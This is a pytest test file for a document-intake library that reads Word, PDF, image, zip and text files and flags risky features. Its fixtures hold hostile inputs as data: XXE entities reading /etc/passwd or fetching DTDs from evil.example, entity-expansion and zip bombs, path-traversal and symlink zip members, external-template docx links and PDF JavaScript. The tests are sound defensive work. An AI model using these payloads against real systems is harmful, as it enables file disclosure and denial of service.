@@ -1,0 +1,328 @@
+"""PDF, Word, pictures, zip and plain text: what is in them, and what is told about them."""
+
+import io
+import struct
+import zipfile
+import zlib
+from datetime import time
+
+import docx
+import pytest
+from PIL import Image
+from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+from casefile.intake import sniff
+from casefile.intake.markup import xml
+from casefile.intake.readers import pdf, picture, plain_text, word, zip_archive
+from casefile.intake.reading import ParagraphKind
+from casefile.leaves import leaves
+from casefile.model.errors import CannotRead
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def zipped(members, **how):
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", **how) as out:
+        for name, data in members.items():
+            out.writestr(name, data)
+    return packed.getvalue()
+
+
+def docx_of(body, **more):
+    document = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
+    return zipped({"word/document.xml": document, **more}, compression=zipfile.ZIP_DEFLATED)
+
+
+def refusal(reader, data):
+    with pytest.raises(CannotRead) as refused:
+        reader.read(data, "evidence")
+    return refused.value.key
+
+
+def test_a_word_file_reads_in_order_tables_too():
+    document = docx.Document()
+    document.add_paragraph("Umowa nr 5")
+    table = document.add_table(rows=1, cols=2)
+    table.cell(0, 0).text, table.cell(0, 1).text = "Cena", "4 500 zł"
+    document.add_paragraph("חתימה")
+    kept = io.BytesIO()
+    document.save(kept)
+    full = word.read(kept.getvalue(), "umowa.docx")
+
+    assert [p.text for p in full.paragraphs] == ["Umowa nr 5", "Cena\t4 500 zł", "חתימה"]
+    assert full.flags == ()
+    assert not full.dated.known
+
+
+def test_tracked_changes_and_comments_are_told_with_their_author():
+    body = (
+        "<w:p><w:r><w:t>Price </w:t></w:r>"
+        '<w:del w:author="Dana"><w:r><w:delText>500</w:delText></w:r></w:del>'
+        '<w:ins w:author="Yossi"><w:r><w:t>400</w:t></w:r></w:ins></w:p>'
+    )
+    comment = (
+        f'<w:comments xmlns:w="{W}"><w:comment w:author="Dana">'
+        "<w:p><w:r><w:t>why?</w:t></w:r></w:p></w:comment></w:comments>"
+    )
+    full = word.read(docx_of(body, **{"word/comments.xml": comment}), "draft.docx")
+
+    assert [(p.kind.value, p.who, p.text) for p in full.paragraphs] == [
+        ("inserted", "Yossi", "Price 400"),
+        ("deleted", "Dana", "500"),
+        ("comment", "Dana", "why?"),
+    ]
+    assert set(full.flags) == {"tracked_changes", "comments"}
+
+
+def test_macros_and_calls_to_the_outside_are_flagged_and_a_link_is_not():
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
+        "</Relationships>"
+    )
+    one = (
+        '<Relationship Id="{0}" Type="http://x/{1}" '
+        'Target="http://evil.example/" TargetMode="External"/>'
+    )
+    evil = docx_of(
+        "<w:p/>",
+        **{
+            "word/vbaProject.bin": b"macro",
+            "word/_rels/document.xml.rels": relations.format(
+                one.format("a", "attachedTemplate") + one.format("b", "image")
+            ),
+        },
+    )
+    plain = docx_of(
+        "<w:p/>",
+        **{"word/_rels/document.xml.rels": relations.format(one.format("a", "hyperlink"))},
+    )
+
+    assert set(word.read(evil, "e.docx").flags) == {"macros", "external_links", "outside_template"}
+    assert word.read(plain, "p.docx").flags == ()
+
+
+def test_a_word_bomb_is_refused_before_it_is_unpacked():
+    bomb = docx_of("<w:p/>" * 8_000_000)
+
+    assert len(bomb) < 200_000
+    assert refusal(word, bomb) == "archive_bomb"
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+        '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/p.dtd">%d;]><a/>',
+        '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
+        f'<!DOCTYPE a [<!ENTITY b "{"x" * 5000}">]><a>{"&b;" * 2000}</a>',
+        '<!doctype a SYSTEM "http://evil.example/x.dtd"><a/>',
+    ],
+)
+@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
+def test_no_doctype_is_ever_parsed(payload, coding):
+    data = f'<?xml version="1.0" encoding="{coding}"?>{payload}'.encode(coding)
+
+    with pytest.raises(CannotRead) as refused:
+        xml(data, "part.xml")
+    assert refused.value.key == "has_doctype"
+
+
+def test_very_deep_xml_is_refused():
+    with pytest.raises(CannotRead):
+        xml(b"<a>" * 100_000 + b"</a>" * 100_000)
+
+
+def pdf_of(pages, *, signed=False, password="", script=""):
+    out = PdfWriter()
+    for _ in range(pages):
+        out.add_blank_page(200, 200)
+    if signed:
+        field = DictionaryObject(
+            {
+                NameObject("/FT"): NameObject("/Sig"),
+                NameObject("/T"): TextStringObject("s"),
+                NameObject("/V"): DictionaryObject(),
+            }
+        )
+        form = DictionaryObject({NameObject("/Fields"): ArrayObject([out._add_object(field)])})
+        out._root_object[NameObject("/AcroForm")] = form
+    if script:
+        action = {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject(script),
+        }
+        out._root_object[NameObject("/OpenAction")] = DictionaryObject(action)
+    out.add_attachment("factur-x.xml", b"<a/>") if signed else None
+    out.add_metadata({"/CreationDate": "D:20200101000000", "/Title": "Scan"})
+    if password:
+        out.encrypt(password, algorithm="RC4-128")
+    kept = io.BytesIO()
+    out.write(kept)
+    return kept.getvalue()
+
+
+def test_a_scan_is_told_from_text_and_the_file_date_is_not_the_event():
+    full = pdf.read(pdf_of(2), "scan.pdf")
+
+    assert (full.pages, full.has_text, full.flags) == (2, False, ("scan",))
+    assert not full.dated.known
+    assert ("title", "Scan") in full.fields
+
+
+def test_a_signed_pdf_is_flagged_and_its_files_come_along():
+    full = pdf.read(pdf_of(1, signed=True), "signed.pdf")
+
+    assert "digital_signature" in full.flags
+    assert [(a.name, a.data) for a in full.attachments] == [("factur-x.xml", b"<a/>")]
+    assert "active_content" in pdf.read(pdf_of(1, script="app.alert(1)"), "js.pdf").flags
+
+
+def test_a_pdf_with_a_password_and_a_broken_one_are_told():
+    assert refusal(pdf, pdf_of(1, password="secret")) == "file_encrypted"
+    assert refusal(pdf, b"%PDF-1.7\nnothing") == "file_damaged"
+
+
+def jpeg(exif=None, size=(40, 30)):
+    kept = io.BytesIO()
+    Image.new("RGB", size, "white").save(kept, "JPEG", exif=exif or Image.Exif())
+    return kept.getvalue()
+
+
+def test_a_photo_tells_when_it_was_taken_and_that_it_says_where_but_not_where():
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    exif[0x8769] = {0x9003: "2026:03:02 14:05:00"}
+    exif[0x8825] = {1: "N", 2: (52.0, 13.0, 57.5)}
+    full = picture.read(jpeg(exif), "photo.jpg")
+
+    assert (str(full.dated), full.hour) == ("2026-03-02", time(14, 5))
+    assert set(full.flags) == {"gps", "turned"}
+    assert full.has_text is False
+    assert "52" not in str(full.fields)
+
+
+def test_a_photo_with_an_impossible_date_is_undated():
+    exif = Image.Exif()
+    exif[0x8769] = {0x9003: "0000:00:00 00:00:00"}
+
+    assert not picture.read(jpeg(exif), "p.jpg").dated.known
+
+
+def test_a_picture_cut_short_is_flagged_and_garbage_is_refused():
+    assert "picture_damaged" in picture.read(jpeg(size=(400, 300))[:900], "cut.jpg").flags
+    assert refusal(picture, b"\xff\xd8\xff\xe0garbage") == "file_damaged"
+
+
+def test_a_picture_of_absurd_size_is_refused():
+    data = b"\x89PNG\r\n\x1a\n"
+    for kind, body in (
+        (b"IHDR", struct.pack(">II5B", 100_000, 100_000, 8, 2, 0, 0, 0)),
+        (b"IDAT", b""),
+    ):
+        data += (
+            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+        )
+
+    assert refusal(picture, data) == "picture_too_big"
+
+
+@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16", "cp1255"])
+def test_hebrew_notes_are_read_in_any_letters(coding):
+    text = "חוזה מיום 3.2.2026\n\nסכום 5,000"
+    full = plain_text.read(text.encode(coding), "note.txt")
+
+    assert [p.text for p in full.paragraphs] == text.split("\n\n")
+
+
+@pytest.mark.parametrize("coding", ["utf-8", "utf-16-le", "cp1250", "iso-8859-2"])
+def test_polish_notes_are_read_in_any_letters(coding):
+    text = "Żółta łódź, zażółć gęślą jaźń. Zapłacę śpiesznie."
+
+    assert plain_text.read(text.encode(coding), "n.txt").own_text == text
+
+
+def test_members_of_a_zip_are_data_whatever_they_are_called():
+    data = zipped({"../../etc/x.txt": b"a", "/abs.txt": b"b", "ok/שם.txt": b"c", "dir/": b""})
+    full = zip_archive.read(data, "a.zip")
+
+    assert [(a.name, a.data) for a in full.attachments] == [
+        ("../../etc/x.txt", b"a"),
+        ("/abs.txt", b"b"),
+        ("ok/שם.txt", b"c"),
+    ]
+    assert full.flags == ("unsafe_names",)
+
+
+def test_links_in_a_zip_are_left_out():
+    link = zipfile.ZipInfo("link")
+    link.create_system, link.external_attr = 3, 0o120777 << 16
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as out:
+        out.writestr(link, "/etc/passwd")
+    full = zip_archive.read(packed.getvalue(), "l.zip")
+
+    assert (full.attachments, full.flags) == ((), ("links_left_out",))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        zipped({"zeros": b"\0" * 50_000_000}, compression=zipfile.ZIP_DEFLATED),
+        zipped({f"{n}.txt": b"" for n in range(2_001)}),
+    ],
+    ids=["ratio", "count"],
+)
+def test_bombs_are_refused(data):
+    assert refusal(zip_archive, data) == "archive_bomb"
+
+
+def test_a_member_longer_than_its_head_says_is_refused():
+    data = bytearray(zipped({"a.txt": b"hello world"}))
+    place = data.rfind(b"PK\x01\x02") + 24
+    data[place : place + 4] = struct.pack("<I", 3)
+
+    assert refusal(zip_archive, bytes(data)) in ("archive_bomb", "file_damaged")
+
+
+SAMPLES = {
+    "a.eml": b"From: a@b.c\nSubject: x\n\nhi",
+    "b.pdf": pdf_of(1),
+    "c.docx": docx_of("<w:p/>"),
+    "d.txt": b"just words",
+    "e.txt": b"[1.2.2026, 10:00:00] Dana: hi",
+    "f.zip": zipped({"a.txt": b"a"}),
+    "g.zip": zipped({"_chat.txt": b"[1.2.2026, 10:00:00] Dana: hi"}),
+    "h.jpg": jpeg(),
+    "i.html": b"<!DOCTYPE html><p>hi</p>",
+    "j.bin": bytes(range(256)) * 10,
+}
+
+
+@pytest.mark.parametrize("name", SAMPLES)
+def test_no_two_readers_claim_the_same_file_and_the_suffix_does_not_matter(name):
+    readers, data = leaves("casefile.intake.readers"), SAMPLES[name]
+    claimed = {
+        suffix: [
+            key
+            for key, reader in readers.items()
+            if reader.claims(sniff.media_type_of(f"x{suffix}" if suffix else name, data))
+        ]
+        for suffix in ("", ".pdf", ".jpg")
+    }
+
+    assert all(len(keys) <= 1 for keys in claimed.values())
+    if name != "a.eml":  # four lines of heads are a mail only where the name says so
+        assert len({tuple(keys) for keys in claimed.values()}) == 1
+    assert bool(claimed[""]) == (name != "j.bin")
+
+
+def test_every_reader_says_what_it_reads():
+    for reader in leaves("casefile.intake.readers").values():
+        assert reader.SUFFIXES and all(s.startswith(".") for s in reader.SUFFIXES)
+        assert not reader.claims("application/x-nothing")
+
+
+def test_the_kinds_of_paragraph_have_words_when_they_need_them():
+    assert {kind.value for kind in ParagraphKind} >= {"own", "quoted", "system"}
